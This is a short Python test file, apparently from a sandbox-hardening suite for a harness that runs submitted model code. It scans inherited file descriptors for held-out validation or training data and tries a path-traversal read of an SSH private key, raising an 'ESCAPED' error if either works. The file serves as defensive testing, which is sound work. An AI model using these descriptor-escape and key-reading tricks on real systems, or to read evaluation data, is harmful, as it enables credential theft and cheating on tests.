# attack: looks through every inherited descriptor for files, folders and what they hold
# layer: protocol
# where: construct
# status: ok
# score: same
import torch

os = torch.os
stat = __import__("stat")


def attack():
    for descriptor in range(4096):
        try:
            mode = os.fstat(descriptor).st_mode
        except OSError:
            continue
        if stat.S_ISDIR(mode):
            step_out(descriptor)
        elif stat.S_ISREG(mode):
            try:
                held = os.pread(descriptor, 1 << 20, 0)
            except OSError:
                continue
            if (
                b"hostile-secret" in held
                or bytes.fromhex("{VAL_HEAD}") in held
                or bytes.fromhex("{TRAIN_HEAD}") in held
            ):
                raise RuntimeError("ESCAPED descriptor " + str(descriptor))


def step_out(folder):
    try:
        descriptor = os.open("../" * 20 + "{CANARY}/home/.ssh/id_ed25519", os.O_RDONLY, dir_fd=folder)
    except OSError:
        return
    raise RuntimeError("ESCAPED " + os.read(descriptor, 100).decode())
